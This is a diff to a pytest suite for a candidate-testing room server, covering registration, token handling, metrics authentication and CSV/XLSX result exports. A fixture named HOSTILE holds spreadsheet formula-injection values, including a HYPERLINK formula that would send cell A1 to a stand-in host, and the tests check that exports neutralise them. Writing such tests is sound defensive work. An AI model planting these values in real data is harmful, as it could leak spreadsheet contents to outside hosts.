@@ -25,6 +25,7 @@ import pytest
 from conftest import AppServer, battery_dict, subtest_dict, write_battery
 from websockets.asyncio.client import connect
 
+from cat_engine.server.auth import new_room_id
 from cat_engine.server.settings import Settings
 from cat_engine.server.store import RoomRecord
 from load_tests.procs import RedisServer
@@ -201,8 +202,13 @@ def candidates(srv: AppServer, room_id: str) -> list[dict[str, str]]:
     return reply.json["candidates"]  # type: ignore[no-any-return]
 
 
+def listed(made: list[dict[str, str]]) -> list[dict[str, str]]:
+    """Registered candidates as the room's list shows them: without their tokens (shown once, at registration)."""
+    return [{k: v for k, v in c.items() if k != "token"} for c in made]
+
+
 def metrics(srv: AppServer) -> str:
-    reply = call(srv, "GET", "/metrics", token=None)
+    reply = call(srv, "GET", "/metrics")
     assert reply.status == 200
     return reply.body.decode()
 
@@ -319,8 +325,8 @@ def test_roster_as_json_and_as_csv(srv: AppServer) -> None:
     csv_made = reply.json["candidates"]
     assert [(c["employee_id"], c["name"]) for c in csv_made] == [("E-3", "Dewi Lestari"), ("E-4", "Agus")]
     everyone = candidates(srv, rid)
-    assert everyone == made + csv_made  # the reprint list, in registration order
-    assert len({c["token"] for c in everyone}) == 4
+    assert everyone == listed(made + csv_made)  # in registration order, without tokens
+    assert len({c["token"] for c in made + csv_made}) == 4
     assert all(c["session_id"].startswith(f"{rid}-") for c in everyone)
     reply = call(srv, "POST", f"/api/rooms/{rid}/candidates", "name,nip\nA,1\n", ctype="text/csv")
     reply.error(400, "bad_request")
@@ -343,7 +349,7 @@ def test_a_duplicate_employee_stores_nothing_of_the_roster(srv: AppServer) -> No
         reply.error(409, "duplicate_employee", employee_id=rows[-1]["employee_id"])
     reply = call(srv, "POST", f"/api/rooms/{rid}/candidates", "employee_id,name\nE5,Lima\nE1,Satu\n", ctype="text/csv")
     reply.error(409, "duplicate_employee", employee_id="E1")
-    assert candidates(srv, rid) == first
+    assert candidates(srv, rid) == listed(first)
     status_after = call(srv, "GET", f"/api/rooms/{rid}").json
     assert status_after.pop("at_ms") >= status_before.pop("at_ms")
     assert status_after == status_before
@@ -360,7 +366,7 @@ def test_a_repeated_registration_with_its_idempotency_key_registers_nothing_more
     assert first.status == 201, first.body
     again = call(srv, "POST", f"/api/rooms/{rid}/candidates", rows, headers=key)
     assert (again.status, again.json) == (201, first.json)  # the first reply: the same sessions and tokens
-    assert candidates(srv, rid) == first.json["candidates"]
+    assert candidates(srv, rid) == listed(first.json["candidates"])
     # the same key with other rows still answers the first registration: the key names the request
     other = {"candidates": [{"employee_id": "E3", "name": "Tiga"}]}
     assert call(srv, "POST", f"/api/rooms/{rid}/candidates", other, headers=key).json == first.json
@@ -425,7 +431,8 @@ def test_room_status_session_and_results(srv: AppServer) -> None:
     assert [s["session_id"] for s in status["sessions"]] == [a["session_id"], b["session_id"], c["session_id"]]
 
     session = call(srv, "GET", f"/api/sessions/{a['session_id']}").json
-    assert set(session) == {"session", "profile"}
+    assert set(session) == {"session", "profile", "suppressed"}
+    assert session["suppressed"] == {"audit": 0, "events": 0}
     assert session["profile"] is None
     assert session["session"]["phase"] == "ready"
 
@@ -587,7 +594,7 @@ def test_a_room_of_a_battery_not_loaded_gets_a_json_error(
     # uvicorn logs the 500 with a traceback from the server thread; on CPython 3.11 formatting a traceback parses
     # source (ast) and racing pytest's own ast.parse of this failure can crash pytest (AST recursion depth mismatch)
     monkeypatch.setattr(logging.getLogger("uvicorn.error"), "disabled", True)
-    room_id = "OLD" + secrets.token_hex(3).upper()
+    room_id = new_room_id()  # of the form of a room id: it reaches the battery check
     srv.call(srv.hub.store.create_room(RoomRecord(room_id, "Ruang lama", "retired-battery", 1), secrets.token_hex(8)))
     if method == "GET":
         reply = call(srv, "GET", f"/api/rooms/{room_id}")
@@ -603,7 +610,8 @@ def test_a_room_of_a_battery_not_loaded_gets_a_json_error(
 def test_healthz_and_metrics(srv: AppServer) -> None:
     reply = call(srv, "GET", "/healthz", token=None)
     assert (reply.status, reply.json) == (200, {"status": "ok", "store": "memory"})
-    reply = call(srv, "GET", "/metrics", token=None)
+    assert call(srv, "GET", "/metrics", token=None).status == 401
+    reply = call(srv, "GET", "/metrics")
     assert reply.status == 200
     assert reply.headers["content-type"].startswith("text/plain; version=0.0.4")
     sit(srv, register(srv, new_room(srv)["room_id"], ("E1", "Ani"))[0]["token"], answers=1)
@@ -658,7 +666,7 @@ def test_main_flow_over_redis(
             srv, "POST", f"/api/rooms/{rid}/candidates", "employee_id,name\nE3,Citra\nE1,Ani\n", ctype="text/csv"
         )
         reply.error(409, "duplicate_employee", employee_id="E1")
-        assert candidates(srv, rid) == made
+        assert candidates(srv, rid) == listed(made)
         reply = call(srv, "POST", f"/api/rooms/{rid}/candidates", "employee_id,name\nE3,Citra\n", ctype="text/csv")
         assert reply.status == 201
         assert sit(srv, made[0]["token"])["type"] == "finished"
@@ -680,3 +688,166 @@ def test_main_flow_over_redis(
         call(srv, "GET", "/api/batteries", token="wrong").error(401, "unauthorized")
     finally:
         srv.stop()
+
+
+# --- spreadsheet files: results and tokens (docs/protocol.md, "Spreadsheet files") ------------------------------
+
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+HOSTILE = [
+    ("+62811", '=HYPERLINK("http://x/?"&A1,"click")'),
+    ("E-2", "Sari;=1+2"),
+    ("@E3", "-2+3, S.Kom."),
+]
+
+
+@pytest.fixture(scope="module", params=["memory", "redis"])
+def store_srv(
+    request: pytest.FixtureRequest, app_server: Callable[..., AppServer], battery_path: Path
+) -> Iterator[AppServer]:
+    if request.param == "redis":
+        redis: RedisServer = request.getfixturevalue("private_redis")
+        prefix = f"t-admin-xlsx-{secrets.token_hex(4)}"
+        settings = Settings(
+            redis_url=redis.url, key_prefix=prefix, admin_token=ADMIN, demo_room=False, batteries=(battery_path,)
+        )
+    else:
+        settings = Settings(admin_token=ADMIN, demo_room=False, batteries=(battery_path,))
+    server = app_server(settings)
+    assert server.hub.store.kind == request.param
+    yield server
+    server.stop()
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def xlsx_rows(reply: Reply) -> list[list[Any]]:
+    """The rows of an XLSX reply's one sheet, after checking it holds no formula; every text cell typed as text."""
+    import zipfile
+
+    import openpyxl
+
+    assert reply.status == 200, reply.body[:300]
+    assert reply.headers["content-type"] == XLSX
+    with zipfile.ZipFile(io.BytesIO(reply.body)) as z:
+        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert len(sheets) == 1 and b"<f>" not in z.read(sheets[0]) and b"<f " not in z.read(sheets[0])
+    ws = openpyxl.load_workbook(io.BytesIO(reply.body)).active
+    assert ws is not None
+    assert all(c.data_type == "s" for row in ws.iter_rows() for c in row if isinstance(c.value, str))
+    return [[c.value for c in row] for row in ws.iter_rows()]
+
+
+def test_results_files_are_safe_for_spreadsheets(store_srv: AppServer) -> None:
+    room = new_room(store_srv)
+    rid = room["room_id"]
+    made = register(store_srv, rid, *HOSTILE)
+    for cand in made:
+        assert sit(store_srv, cand["token"])["type"] == "finished"
+    rows = call(store_srv, "GET", f"/api/rooms/{rid}/results").json["results"]
+    assert [r["name"] for r in rows] == [name for _, name in HOSTILE for _ in range(2)]  # the JSON as typed
+
+    text = call(store_srv, "GET", f"/api/rooms/{rid}/results?format=csv").body.decode()
+    table = list(csv.reader(io.StringIO(text, newline="")))
+    assert table[0] == RESULT_COLUMNS
+    by_name = [(r[2], r[3]) for r in table[1::2]]
+    assert by_name == [
+        ("'+62811", '\'=HYPERLINK("http://x/?"&A1,"click")'),
+        ("E-2", "Sari;'=1+2"),
+        ("'@E3", "'-2+3, S.Kom."),
+    ]
+    theta = RESULT_COLUMNS.index("theta")
+    assert [float(r[theta]) for r in table[1:]] == [r["theta"] for r in rows]  # numbers as numbers, no quote mark
+    for sep in (",", ";"):  # however the spreadsheet splits it, no cell but a number starts with = + - @
+        starts = [c for line in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for c in line]
+        starts = [c for c in starts if c.lstrip(' "')[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert all(is_number(c) for c in starts), starts
+
+    reply = call(store_srv, "GET", f"/api/rooms/{rid}/results?format=xlsx")
+    assert reply.headers["content-disposition"] == f'attachment; filename="results-{rid}.xlsx"'
+    sheet = xlsx_rows(reply)
+    assert tuple(sheet[0]) == tuple(RESULT_COLUMNS)
+    assert sheet[1:] == [[r[c] for c in RESULT_COLUMNS] for r in rows]  # names verbatim as text, numbers numbers
+    as_proctor = call(store_srv, "GET", f"/api/rooms/{rid}/results?format=xlsx", token=room["proctor_token"])
+    assert xlsx_rows(as_proctor) == sheet
+    other = new_room(store_srv, "Ruang 2")
+    reply = call(store_srv, "GET", f"/api/rooms/{rid}/results?format=xlsx", token=other["proctor_token"])
+    reply.error(401, "unauthorized")
+    call(store_srv, "GET", "/api/rooms/NOROOM/results?format=xlsx").error(404, "not_found")
+    assert xlsx_rows(call(store_srv, "GET", f"/api/rooms/{other['room_id']}/results?format=xlsx")) == [RESULT_COLUMNS]
+
+
+def test_a_table_exported_as_xlsx(srv: AppServer) -> None:
+    body = {
+        "filename": "tokens-R7K2PQ",
+        "columns": ["employee_id", "name", "session_id", "token", "link"],
+        "rows": [
+            ["+62811", '=HYPERLINK("http://x/?"&A1,"click")', "R7K2PQ-0001", "ABCDEFGHJKMN", "http://x/#t=ABCD"],
+            ["E2", "#N/A", "R7K2PQ-0002", None, -0.52],
+        ],
+    }
+    reply = call(srv, "POST", "/api/export.xlsx", body)
+    assert reply.headers["content-disposition"] == 'attachment; filename="tokens-R7K2PQ.xlsx"'
+    assert xlsx_rows(reply) == [body["columns"], *body["rows"]]
+
+    room = new_room(srv)
+    for token in (None, ADMIN + "x", room["proctor_token"]):  # the admin's only
+        call(srv, "POST", "/api/export.xlsx", body, token=token).error(401, "unauthorized")
+    call(srv, "POST", "/api/export.xlsx", body | {"filename": 'x"; y'}).error(400, "bad_request")
+    call(srv, "POST", "/api/export.xlsx", body | {"rows": [["only one"]]}).error(400, "bad_request")
+    call(srv, "POST", "/api/export.xlsx", body | {"rows": [["x"] * 5] * 5001}).error(400, "bad_request")
+    assert len(xlsx_rows(call(srv, "POST", "/api/export.xlsx", body | {"rows": [["x"] * 5] * 5000}))) == 5001
+    call(srv, "POST", "/api/export.xlsx", b"{", ctype="application/json").error(400, "bad_request")
+    huge = body | {"rows": [["x" * 200] * 5] * 1100}  # within the row limit, over the 1 MiB body limit
+    call(srv, "POST", "/api/export.xlsx", huge).error(413, "too_large")
+
+
+# --- lost tokens ---------------------------------------------------------------------------------------------------
+
+
+def test_a_lost_candidate_token_is_replaced_over_http(store_srv: AppServer) -> None:
+    """POST /api/rooms/{id}/tokens: a new token that works; the old one is refused; nothing else changes."""
+    rid = new_room(store_srv)["room_id"]
+    a, b = register(store_srv, rid, ("E1", "Ani"), ("E2", "Budi"))
+    reply = call(store_srv, "POST", f"/api/rooms/{rid}/tokens", {"session_ids": [a["session_id"]]})
+    assert reply.status == 200, reply.body
+    [new] = reply.json["candidates"]
+    assert {k: new[k] for k in ("employee_id", "name", "session_id")} == listed([a])[0]
+    assert new["token"] != a["token"]
+    assert sit(store_srv, a["token"])["code"] == "bad_token"
+    assert sit(store_srv, new["token"], answers=0)["type"] == "item"
+    assert sit(store_srv, b["token"], answers=0)["type"] == "item"  # the other keeps hers
+    assert candidates(store_srv, rid) == listed([a, b])
+    # refused whole: a session of no room, a malformed id, a foreign room's session; and for a proctor
+    other = new_room(store_srv, "Ruang 2")["room_id"]
+    [c] = register(store_srv, other, ("E3", "Citra"))
+    for ids, status, code in (
+        ([f"{rid}-0099"], 404, "not_found"),
+        (["nonsense"], 404, "not_found"),
+        ([c["session_id"]], 400, "bad_request"),
+        ([], 400, "bad_request"),
+    ):
+        call(store_srv, "POST", f"/api/rooms/{rid}/tokens", {"session_ids": ids}).error(status, code)
+    assert sit(store_srv, c["token"], answers=0)["type"] == "item"
+    room = new_room(store_srv, "Ruang 3")
+    call(
+        store_srv, "POST", f"/api/rooms/{rid}/tokens", {"session_ids": [b["session_id"]]}, token=room["proctor_token"]
+    ).error(401, "unauthorized")
+
+
+def test_a_lost_proctor_token_is_replaced_over_http(store_srv: AppServer) -> None:
+    room = new_room(store_srv)
+    rid = room["room_id"]
+    reply = call(store_srv, "POST", f"/api/rooms/{rid}/proctor-token")
+    assert reply.status == 200 and set(reply.json) == {"room_id", "proctor_token"}, reply.body
+    new = reply.json["proctor_token"]
+    assert new != room["proctor_token"]
+    results = f"/api/rooms/{rid}/results"
+    call(store_srv, "GET", results, token=room["proctor_token"]).error(401, "unauthorized")
+    assert call(store_srv, "GET", results, token=new).status == 200
+    call(store_srv, "POST", "/api/rooms/ZZZZZZ/proctor-token").error(404, "not_found")
